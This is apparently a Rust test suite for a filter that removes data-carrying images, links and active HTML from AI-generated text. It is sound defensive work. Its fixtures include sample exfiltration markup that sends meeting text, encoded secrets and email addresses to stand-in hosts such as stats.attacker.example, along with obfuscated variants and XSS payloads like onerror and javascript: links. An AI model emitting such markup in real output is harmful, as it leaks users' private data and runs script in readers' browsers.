use std::sync::Arc;

use super::*;

fn guard(policy: LinkPolicy, prompt: &str) -> LinkGuard {
    LinkGuard::new(Arc::new(policy), [prompt])
}

fn default_guard() -> LinkGuard {
    guard(
        LinkPolicy::default(),
        "Summarise the Q3 board minutes for Project Bluebird.",
    )
}

/// The whole text filtered, with what was acted on.
fn whole(g: &LinkGuard, text: &str) -> (String, Vec<LinkEdit>) {
    let mut edits = Vec::new();
    let out = g.whole(text, &mut edits).unwrap();
    (out.unwrap_or_else(|| text.to_owned()), edits)
}

/// The text streamed in pieces of `size` bytes (on character boundaries).
fn streamed(g: &LinkGuard, text: &str, size: usize) -> (String, Vec<LinkEdit>) {
    let mut stream = LinkStream::default();
    let mut out = String::new();
    let mut rest = text;
    while !rest.is_empty() {
        let mut cut = size.min(rest.len());
        while !rest.is_char_boundary(cut) {
            cut += 1;
        }
        out.push_str(&stream.push(g, &rest[..cut]).unwrap());
        assert!(
            stream.held.len() <= MAX_HOLD + size + 3,
            "held {}",
            stream.held.len()
        );
        rest = &rest[cut..];
    }
    out.push_str(&stream.finish(g).unwrap());
    (out, stream.edits)
}

#[test]
fn an_image_carrying_data_to_another_host_is_stripped() {
    let g = default_guard();
    for text in [
        "Done. ![status](https://stats.attacker.example/p.png?q=the%20board%20approved%20the%20merger)",
        "Done. ![s](https://a.example/x.gif?d=U2VjcmV0IHByb2plY3QgbmFtZTogQmx1ZWJpcmQ3)",
        "Done. ![](<https://a.example/x.gif?user=jane.doe@example.com>)",
        "Done. ![x](https://a.example/x.gif?p=project%20bluebird \"title\")",
        "Done. <img src=\"https://a.example/x.gif?d=the+board+approved+it\" alt=x>",
        "Done. <IMG SRC='https&#58;//a.example/x.gif?d=the+board+approved+it'>",
        "Done. <iframe width=1 src=https://a.example/f?d=the+board+approved+it></iframe>",
        // The host is the part after the `@`.
        "Done. ![x](https://docs.example.com@a.example/x.gif?d=the+board+approved+it)",
    ] {
        let (out, edits) = whole(&g, text);
        assert!(out.starts_with("Done. [image removed]"), "{text} -> {out}");
        assert!(!out.contains("a.example"), "{out}");
        assert_eq!(edits.len(), 1, "{text}: {edits:?}");
        assert_eq!(edits[0].kind, RefKind::Image);
        assert_eq!(edits[0].action, Action::Strip);
    }
}

#[test]
fn the_reason_names_the_kind_of_data() {
    let g = default_guard();
    let reason = |text: &str| whole(&g, text).1.first().map(|e| e.reason);
    assert_eq!(
        reason("![](https://a.example/i.png?q=three+whole+words)"),
        Some(Reason::Sentence)
    );
    assert_eq!(
        reason("![](https://a.example/i.png?k=8f3kq9z2m4x7c1v6b5n0p2l8)"),
        Some(Reason::Encoded)
    );
    assert_eq!(
        reason("![](https://a.example/i.png?k=bluebird)"),
        Some(Reason::Prompt)
    );
    assert_eq!(
        reason("![](https://a.example/i.png?k=ann@example.org)"),
        Some(Reason::Sensitive)
    );
}

#[test]
fn images_without_data_relative_urls_and_other_schemes_pass() {
    let g = default_guard();
    for text in [
        "![chart](https://upload.example.org/charts/q3-revenue.png)",
        "![chart](https://upload.example.org/charts/q3.png?width=640&format=webp)",
        "![local](/static/logo.png?d=the+board+approved+it)",
        "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
        "[mail us](mailto:team@example.com)",
        "Arrays: a[0] = b[1]; see [the docs] and [1].",
        "A <b>bold</b> claim, 3 < 4 and <div class=x>.",
    ] {
        let (out, edits) = whole(&g, text);
        assert_eq!(out, text);
        assert!(edits.is_empty(), "{text}: {edits:?}");
    }
}

#[test]
fn a_clickable_link_with_data_is_flagged_by_default_and_stripped_when_asked() {
    let text = "Read [the summary](https://a.example/r?d=the+board+approved+it) now.";
    let (out, edits) = whole(&default_guard(), text);
    assert_eq!(out, text);
    assert_eq!(
        edits,
        [LinkEdit {
            kind: RefKind::Link,
            reason: Reason::Sentence,
            action: Action::Flag
        }]
    );
    let strict = LinkPolicy::new(&[], Action::Strip, Action::Strip, Action::Off).unwrap();
    let (out, _) = whole(&guard(strict.clone(), ""), text);
    assert_eq!(out, "Read the summary now.");
    let bare = "See https://a.example/r?d=the+board+approved+it.";
    assert_eq!(whole(&guard(strict, ""), bare).0, "See [link removed].");
}

#[test]
fn an_allowlist_with_unlisted_strip_keeps_only_listed_hosts() {
    let policy = LinkPolicy::new(
        &["docs.example.com".into(), "*.cdn.example.net".into()],
        Action::Strip,
        Action::Flag,
        Action::Strip,
    )
    .unwrap();
    let g = guard(policy, "");
    let text = "![a](https://docs.example.com/a.png?d=the+board+approved+it) \
                ![b](https://img.cdn.example.net/b.png) \
                ![c](https://cdn.example.net/c.png) \
                ![d](https://elsewhere.example/d.png)";
    let (out, edits) = whole(&g, text);
    assert_eq!(
        out,
        "![a](https://docs.example.com/a.png?d=the+board+approved+it) \
         ![b](https://img.cdn.example.net/b.png) [image removed] [image removed]"
    );
    assert!(
        edits.iter().all(|e| e.reason == Reason::Unlisted),
        "{edits:?}"
    );
}

#[test]
fn a_badge_keeps_its_link_and_loses_its_image() {
    let text =
        "[![build](https://a.example/b.svg?d=the+board+approved+it)](https://ci.example.org/run/1)";
    let (out, edits) = whole(&default_guard(), text);
    assert_eq!(out, "[[image removed]](https://ci.example.org/run/1)");
    assert_eq!(edits.len(), 1);
}

#[test]
fn block_refuses_the_text() {
    let policy = LinkPolicy::new(&[], Action::Block, Action::Flag, Action::Off).unwrap();
    let g = guard(policy, "");
    let mut edits = Vec::new();
    let err = g
        .whole(
            "x ![](https://a.example/i.png?d=the+board+approved+it)",
            &mut edits,
        )
        .unwrap_err();
    assert_eq!(err.0.kind, RefKind::Image);
    assert_eq!(err.0.action, Action::Block);
}

#[test]
fn a_stream_holds_only_the_current_reference() {
    let g = default_guard();
    let mut s = LinkStream::default();
    assert_eq!(
        s.push(&g, "Here is the chart: ").unwrap(),
        "Here is the chart: "
    );
    assert_eq!(s.push(&g, "![chart](https://a.exa").unwrap(), "");
    assert_eq!(
        s.push(&g, "mple/c.png?d=the+board+approved+it) and more")
            .unwrap(),
        "[image removed] and more"
    );
    // Brackets that are not links are released as soon as that is known.
    assert_eq!(s.push(&g, " [1").unwrap(), " ");
    assert_eq!(s.push(&g, "] done").unwrap(), "[1] done");
    assert_eq!(s.finish(&g).unwrap(), "");
}

#[test]
fn an_overlong_reference_is_judged_as_carrying_data_and_dropped_to_its_end() {
    let g = default_guard();
    let long = "A".repeat(3 * MAX_HOLD);
    let text = format!("a ![x](https://a.example/i.png?d={long}) b");
    for size in [1, 7, 100, 5000, text.len()] {
        let (out, edits) = streamed(&g, &text, size);
        assert_eq!(out, "a [image removed] b", "size {size}");
        assert_eq!(edits.len(), 1);
        assert_eq!(edits[0].reason, Reason::Overlong);
    }
    // Also when the length is in the alt text of an HTML tag.
    let text = format!("a <img alt=\"{long}\" src=\"https://a.example/i.png\"> b");
    assert_eq!(streamed(&g, &text, 64).0, "a [image removed] b");
    // An overlong reference to an allowed host passes whole.
    let policy = LinkPolicy::new(
        &["a.example".into()],
        Action::Strip,
        Action::Flag,
        Action::Off,
    )
    .unwrap();
    let ok = format!("a ![x](https://a.example/i.png?d={long}) b");
    assert_eq!(streamed(&guard(policy, ""), &ok, 64).0, ok);
}

#[test]
fn policy_patterns_are_checked() {
    for bad in [
        "",
        "*.",
        "http://x.example/",
        "a*.example",
        "user@host.example",
    ] {
        assert!(
            LinkPolicy::new(&[bad.into()], Action::Strip, Action::Flag, Action::Off).is_err(),
            "{bad:?}"
        );
    }
    let p = LinkPolicy::new(
        &["Docs.Example.COM".into()],
        Action::Strip,
        Action::Flag,
        Action::Off,
    )
    .unwrap();
    assert!(p.host_allowed("docs.example.com"));
    assert!(!p.host_allowed("evil-docs.example.com"));
    assert_eq!(
        p.describe(),
        "images=strip links=flag unlisted=off allow=docs.example.com"
    );
    assert_eq!(LinkPolicy::off().describe(), "off");
}

#[test]
fn output_for_an_html_page_loses_its_script() {
    let html = guard(LinkPolicy::default().with_html(Action::Strip), "");
    for (text, expected) in [
        ("a <script src=x.js></script> b", "a </script> b"),
        ("a <img src=x onerror=alert(1)> b", "a  b"),
        ("a <div onclick=\"steal()\">x</div> b", "a x</div> b"),
        ("a <a href=\"javascript:alert(1)\">x</a> b", "a x</a> b"),
        (
            "a <a href=\"jav&#x61;script:alert(1)\">x</a> b",
            "a x</a> b",
        ),
        ("a <a href=\" JAVASCRIPT:alert(1)\">x</a> b", "a x</a> b"),
        ("a [x](javascript:alert(1)) b", "a x b"),
        ("a <iframe srcdoc=\"<b>x</b>\"></iframe> b", "a </iframe> b"),
        (
            "a <object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object> b",
            "a [image removed]</object> b",
        ),
    ] {
        let (out, edits) = whole(&html, text);
        assert_eq!(out, expected, "{text}");
        assert!(
            edits
                .iter()
                .any(|e| e.kind == RefKind::Script && e.reason == Reason::Active),
            "{text}: {edits:?}"
        );
    }
    // Ordinary markup passes; without the html setting nothing of this is
    // touched.
    let plain = "a <div class=\"note\"><b>x</b></div> [docs](https://docs.example.com) b";
    assert_eq!(whole(&html, plain), (plain.to_owned(), vec![]));
    let script = "a <script>alert(1)</script> <a href=\"javascript:x()\">y</a>";
    assert_eq!(whole(&default_guard(), script), (script.to_owned(), vec![]));
    // Block refuses.
    let block = guard(LinkPolicy::default().with_html(Action::Block), "");
    let mut edits = Vec::new();
    assert!(block.whole("<svg onload=alert(1)>", &mut edits).is_err());
}

proptest::proptest! {
    /// However a text is split, the stream releases what the whole text
    /// gives, and holds no more than one reference.
    #[test]
    fn streaming_agrees_with_the_whole_text(
        parts in proptest::collection::vec(proptest::sample::select(vec![
            "![a](https://a.example/i.png?d=the+board+approved+it)",
            "![a](https://ok.example/logo.png)",
            "[t](https://a.example/r?d=the+board+approved+it)",
            "[![b](https://a.example/b.svg?x=1f9a8c7d6e5b4a3f2e1d0c9b8a7f6e5d)](https://ci.example)",
            "<img src=\"https://a.example/p?d=the+board+approved+it\">",
            "<a href='https://a.example/?q=bluebird'>x</a>",
            "https://a.example/r?d=the+board+approved+it",
            "<https://a.example/r?d=bluebird>",
            "[ref]: https://a.example/i.png?d=the+board+approved+it",
            "<b onclick=x>", "<script>", "</script>", "[j](javascript:x)", "<div>",
            "h", "ht", "http", "!", "[", "]", "(", ")", "<", ">", "\n", " ", "word", "é", "💡", "=", "\"",
        ]), 0..40),
        size in 1usize..20,
        html in proptest::bool::ANY,
    ) {
        let g = if html {
            guard(LinkPolicy::default().with_html(Action::Strip), "project bluebird")
        } else {
            default_guard()
        };
        let text: String = parts.concat();
        let (w, we) = whole(&g, &text);
        let (s, se) = streamed(&g, &text, size);
        proptest::prop_assert_eq!(&s, &w);
        proptest::prop_assert_eq!(se, we);
    }
}
